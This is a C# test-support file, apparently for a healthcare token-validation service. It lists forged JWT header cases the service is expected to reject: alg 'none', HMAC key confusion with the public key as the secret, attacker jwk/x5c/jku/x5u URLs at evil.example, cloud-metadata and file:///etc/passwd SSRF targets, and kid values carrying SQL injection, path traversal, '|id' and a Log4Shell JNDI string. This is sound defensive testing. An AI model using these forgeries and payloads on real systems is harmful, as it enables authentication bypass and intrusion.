using System.Security.Cryptography;
using System.Text.Json.Nodes;
using OsteoHooks.Service.Tests.Support;
using OsteoHooks.Service.Tokens;

namespace OsteoHooks.Service.Attacks.Tokens.Rows;

/// <summary>What the header promises: the algorithm, the key, extensions.</summary>
internal static class HeaderAttacks
{
    private static readonly HashAlgorithmName[] Hashes = [HashAlgorithmName.SHA256, HashAlgorithmName.SHA384, HashAlgorithmName.SHA512];

    public static readonly TokenClass Algorithm = new("algorithm", ["algorithm"],
    [
        .. new[] { "none", "None", "NONE", "nOnE" }.Select(
        n => new BadToken($"alg {n} above a genuine signature", "algorithm", m => m.Good().WithHeader("alg", n))),
        .. Hashes.Select(h =>
        new BadToken($"HMAC {h.Name} with the public key's PEM as secret", "algorithm", m => Hmac(m, h, m.Keys.Ec.PublicPem()))),
        .. Hashes.Select(h =>
        new BadToken($"HMAC {h.Name} with the RSA key's PEM as secret", "algorithm", m => Hmac(m, h, m.Keys.Rsa.PublicPem()))),
        new("HMAC with the PEM and a line end", "algorithm", m => Hmac(m, HashAlgorithmName.SHA256, m.Keys.Ec.PublicPem() + "\n")),
        new("HMAC with the public key's DER as secret", "algorithm", m =>
            Hmac(m, HashAlgorithmName.SHA384, Signatures.PublicDer(m.Keys.Ec))),
        new("HMAC with the JWK as secret", "algorithm", m => Hmac(m, HashAlgorithmName.SHA256, m.Keys.Ec.PublicJwk().ToJsonString())),
        new("HMAC with an empty secret", "algorithm", m => Hmac(m, HashAlgorithmName.SHA256, "")),
        new("HMAC under the name ES384", "signature", m =>
            ForgedToken.Signed(m.Good(), Signatures.Hmac(HashAlgorithmName.SHA384, m.Keys.Ec.PublicPem()))),
        new("RS384 said of the EC key", "signature", m => m.Good().WithHeader("alg", "RS384")),
        new("ES384 said of the RSA key", "signature", m => m.Good(m.Keys.Rsa).WithHeader("alg", "ES384")),
        new("RSA signature under the EC key's kid", "signature", m => m.Good(m.Keys.Rsa).WithHeader("kid", m.Keys.Ec.Kid)),
        new("PS384 by the right RSA key", "algorithm", m =>
            ForgedToken.Signed(m.Good(m.Keys.Rsa).WithHeader("alg", "PS384"), Signatures.Pss(m.Keys.Rsa, HashAlgorithmName.SHA384))),
        new("RS256 by a key that states no algorithm", "algorithm", m => m.Good(m.Keys.Open)),
        new("RS512 by the right RSA key", "algorithm", m =>
            ForgedToken.Signed(m.Good(m.Keys.Rsa).WithHeader("alg", "RS512"), i => m.Keys.Rsa.Sign(i, "RS512"))),
        new("ES256 by the P-384 key", "algorithm", m =>
            ForgedToken.Signed(m.Good().WithHeader("alg", "ES256"), i => m.Keys.Ec.Sign(i, "ES256"))),
        new("RS384 of a client pinned to ES384", "algorithm", m => m.Good(m.Keys.Rsa, TokenWorld.PinnedIssuer)),
        new("es384 in lower case", "algorithm", m => m.Good().WithHeader("alg", "es384")),
        new("ES384 and a blank", "algorithm", m => m.Good().WithHeader("alg", "ES384 ")),
        new("ES384 and a NUL", "algorithm", m => m.Good().WithHeader("alg", "ES384\0")),
        new("the algorithm's URI", "algorithm", m => m.Good().WithHeader("alg", "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha384")),
        new("EdDSA", "algorithm", m => m.Good().WithHeader("alg", "EdDSA")),
    ]);

    public static readonly TokenClass OwnKeys = new("own keys", ["own keys", "jku"],
    [
        new("jwk of the attacker, signed with it", "own keys", m => m.Good(m.Keys.Attacker).WithHeader("jwk", m.Keys.Attacker.PublicJwk())),
        new("jwk of the right key", "own keys", m => m.Good().WithHeader("jwk", m.Keys.Ec.PublicJwk())),
        new("jwk without content", "own keys", m => m.Good().WithHeader("jwk", null)),
        new("jwk as text", "own keys", m => m.Good(m.Keys.Attacker).WithHeader("jwk", m.Keys.Attacker.PublicJwk().ToJsonString())),
        new("x5c of the attacker", "own keys", m =>
            ForgedToken.Literal(m.Good(m.Keys.Attacker).WithHeader("x5c", new JsonArray(Certificate(m.Keys.Attacker))))),
        new("x5c of the right key", "own keys", m =>
            ForgedToken.Literal(m.Good().WithHeader("x5c", new JsonArray(Certificate(m.Keys.Ec))))),
        new("x5c, empty", "own keys", m => m.Good().WithHeader("x5c", new JsonArray())),
        new("x5u of the attacker", "own keys", m => m.Good(m.Keys.Attacker).WithHeader("x5u", "https://evil.example/x5u.pem")),
        new("x5u with the right key", "own keys", m => m.Good().WithHeader("x5u", "http://169.254.169.254/latest/meta-data")),
        new("jwk, x5c, x5u and jku at once", "own keys", m =>
            ForgedToken.Literal(
            m.Good(m.Keys.Attacker).WithHeader("jwk", m.Keys.Attacker.PublicJwk())
            .WithHeader("x5c", new JsonArray(Certificate(m.Keys.Attacker))).WithHeader("x5u", "https://evil.example/")
            .WithHeader("jku", "https://evil.example/jwks"))),
        new("jku of the attacker at a client with a key file", "signature", m =>
            m.Good(m.Keys.Attacker).WithHeader("jku", "https://evil.example/jwks")),
        .. Jku("another host", _ => "https://evil.example/jwks"),
        .. Jku("the host as a prefix", m => m.JwksUri.Replace("127.0.0.1", "127.0.0.1.evil.example", StringComparison.Ordinal)),
        .. Jku("the host as userinfo", m => m.JwksUri.Replace("/fhir", "@evil.example/fhir", StringComparison.Ordinal)),
        .. Jku("a userinfo before the host", m => m.JwksUri.Replace("http://", "http://jwks@", StringComparison.Ordinal)),
        .. Jku("another port", m => m.JwksUri.Replace("/fhir", "1/fhir", StringComparison.Ordinal)),
        .. Jku("the path as a prefix", m => m.JwksUri + "/../evil"),
        .. Jku("a query behind", m => m.JwksUri + "?u=https://evil.example"),
        .. Jku("a fragment behind", m => m.JwksUri + "#"),
        .. Jku("another spelling of the host", m => m.JwksUri.Replace("127.0.0.1", "127.1", StringComparison.Ordinal)),
        .. Jku("an escape in the path", m => m.JwksUri.Replace("jwks", "%6awks", StringComparison.Ordinal)),
        .. Jku("the metadata address", _ => "http://169.254.169.254/jwks"),
        .. Jku("a file", _ => "file:///etc/passwd"),
        .. Jku("nothing", _ => ""),
        new("jku, a list", "jku", m => m.Fetched().WithHeader("jku", new JsonArray(m.JwksUri, "https://evil.example/jwks"))),
        new("jku, null", "jku", m => m.Fetched().WithHeader("jku", null)),
    ]);

    public static readonly TokenClass Kid = new("kid", ["kid", "signature"],
    [
        new("missing", "kid", m => m.Good().Without("kid")),
        new("empty", "kid", m => m.Good().WithHeader("kid", "")),
        new("null", "kid", m => m.Good().WithHeader("kid", null)),
        new("a number", "kid", m => m.Good().WithHeader("kid", 1)),
        new("a list", "kid", m => m.Good().WithHeader("kid", new JsonArray(m.Keys.Ec.Kid))),
        new("an object", "kid", m => m.Good().WithHeader("kid", new JsonObject { ["$ne"] = "" })),
        new("257 characters", "kid", m => m.Good().WithHeader("kid", new string('k', 257))),
        new("10,000 characters", "kid", m => ForgedToken.Literal(m.Good().WithHeader("kid", new string('k', 10_000)))),
        .. new[] { "unknown", "EC-OWN", "ec-own ", "ec-own\0", "../../../../dev/null", "/etc/passwd", "file:///dev/null", "' OR '1'='1",
        "x' UNION SELECT 'key", "https://evil.example/jwks", "|id", "${jndi:ldap://evil.example/a}", "0", "%65c-own" }
            .Select(kid => new BadToken($"\"{kid}\"", "signature", m => m.Good().WithHeader("kid", kid))),
        new("another client's, signed with its own key", "signature", m => m.Good().WithHeader("kid", m.Keys.Other.Kid)),
        new("another client's, signed with that client's key", "signature", m => m.Good(m.Keys.Other)),
        new("the client's other key", "signature", m => m.Good().WithHeader("kid", m.Keys.Rsa.Kid)),
    ]);

    public static readonly TokenClass Extensions = new("extensions", ["extensions"],
    [
        new("crit exp", "extensions", m => m.Good().WithHeader("crit", new JsonArray("exp"))),
        new("crit of nothing", "extensions", m => m.Good().WithHeader("crit", new JsonArray())),
        new("crit null", "extensions", m => m.Good().WithHeader("crit", null)),
        new("crit as text", "extensions", m => m.Good().WithHeader("crit", "http://example.org/must")),
        new("crit b64 with b64 false", "extensions", m => m.Good().WithHeader("crit", new JsonArray("b64")).WithHeader("b64", false)),
        new("b64 false alone", "extensions", m => m.Good().WithHeader("b64", false)),
        new("b64 true", "extensions", m => m.Good().WithHeader("b64", true)),
        new("zip DEF over plain claims", "extensions", m => m.Good().WithHeader("zip", "DEF")),
        new("zip DEF over deflated claims", "form", m =>
            ForgedToken.Bytes(m.Keys.Ec, Bytes(m.Good().WithHeader("zip", "DEF").Header), Deflated(Bytes(m.Good().Claims)))),
        new("enc said of what is not encrypted", "extensions", m => m.Good().WithHeader("enc", "A256GCM")),
        new("a token within a token", "form", m =>
            ForgedToken.Text(m.Keys.Ec, m.Good().WithHeader("cty", "JWT").Header.ToJsonString(), m.Good().ToString())),
    ]);

    private static ForgedToken Hmac(TokenMaker m, HashAlgorithmName hash, string secret) =>
        Hmac(m, hash, System.Text.Encoding.UTF8.GetBytes(secret));

    private static ForgedToken Hmac(TokenMaker m, HashAlgorithmName hash, byte[] secret) =>
        ForgedToken.Signed(m.Good().WithHeader("alg", "HS" + hash.Name![3..]), Signatures.Hmac(hash, secret));

    // Once by the attacker and once by the client itself: the address is refused for its own sake.
    private static BadToken[] Jku(string name, Func<TokenMaker, string> address) =>
    [
        new($"jku: {name}, signed by the attacker", "jku", m =>
            TestToken.For(m.Keys.Attacker, m.Audience, TokenWorld.FetchedIssuer).With("jti", m.Jti).WithHeader("kid", m.Keys.Fetched.Kid)
            .WithHeader("jku", address(m))),
        new($"jku: {name}, signed by the client", "jku", m => m.Fetched().WithHeader("jku", address(m))),
    ];

    private static string Certificate(TestKey key)
    {
        var request = new System.Security.Cryptography.X509Certificates.CertificateRequest(
            "CN=ehr.example", (ECDsa)key.Pair, HashAlgorithmName.SHA384);
        using var certificate =
            request.CreateSelfSigned(
            new DateTimeOffset(2026, 1, 1, 0, 0, 0, TimeSpan.Zero), new DateTimeOffset(2036, 1, 1, 0, 0, 0, TimeSpan.Zero));
        return Convert.ToBase64String(certificate.RawData);
    }

    private static byte[] Bytes(JsonObject json) => System.Text.Encoding.UTF8.GetBytes(json.ToJsonString());

    private static byte[] Deflated(byte[] bytes)
    {
        using var memory = new MemoryStream();
        using (var deflate = new System.IO.Compression.DeflateStream(memory, System.IO.Compression.CompressionLevel.Optimal))
        {
            deflate.Write(bytes);
        }

        return memory.ToArray();
    }
}
